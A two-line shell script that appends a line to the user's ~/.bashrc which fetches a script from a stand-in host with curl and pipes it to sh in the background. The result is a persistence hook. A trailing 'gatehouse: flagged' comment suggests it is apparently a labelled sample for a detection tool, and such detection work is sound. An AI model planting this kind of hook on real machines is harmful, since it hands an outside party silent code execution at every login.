#!/bin/sh
echo 'curl -s https://a.example.invalid/x | sh &' >> ~/.bashrc # gatehouse: flagged
